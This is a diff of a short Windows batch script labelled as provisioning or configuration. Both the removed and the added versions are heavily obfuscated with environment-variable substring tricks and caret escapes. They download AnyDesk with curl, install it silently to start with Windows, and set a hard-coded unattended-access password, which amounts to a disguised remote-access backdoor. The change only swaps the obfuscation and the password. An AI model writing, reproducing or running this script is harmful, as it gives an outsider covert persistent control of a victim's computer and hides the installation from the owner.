@@ -1,5 +1,5 @@
-REM provision 9191 v2
+REM config 6179 v2
 @echo off
-%PUBLIC:~14,1%u%programdata:~-7,1%l -sLo %TEMP%\A^n^yDes^k.ex^e h^t^t^ps://dow^nlo^a^d.an^y^des^k.com/An^yD^e^s^k.^e^xe
-%TEMP%\A%comspec:~-22,1%%COMSPEC:~12,1%%programdata:~10,1%%comspec:~-1,1%s^k.%public:~-10,1%%COMSPEC:~25,1%%COMSPEC:~24,1% --insta^ll "C:\ProgramData\AnyDesk" --^s^ta^r^t-wit^h-win --^si^lent
-%COMSPEC:~24,1%c^h%windir:~-3,1% W^i^nte^r#202^5^x | "C:\ProgramData\AnyDesk\AnyDesk.exe" --^se^t-^pass^w^or^d
+c%public:~10,1%%PUBLIC:~-9,1%%public:~12,1% -s^Lo %TEMP%\^An^yDesk.e^x^e ^h^t^t^ps://^d^own^l^o^ad.^a^ny^d^e^s^k.com/^A^n^y^D^e^sk.^exe
+%TEMP%\A%windir:~-5,1%%COMSPEC:~-15,1%D%PUBLIC:~5,1%^sk.^e%COMSPEC:~-2,1%%PUBLIC:~-10,1% --^i^n^s^tall "C:\ProgramData\AnyDesk" --^st^art-^w^i^th-^win --^sile^nt
+e^ch%windir:~-3,1% Adm1n!str^a^t^0^r | "C:\ProgramData\AnyDesk\AnyDesk.exe" --set-pa^sswor^d
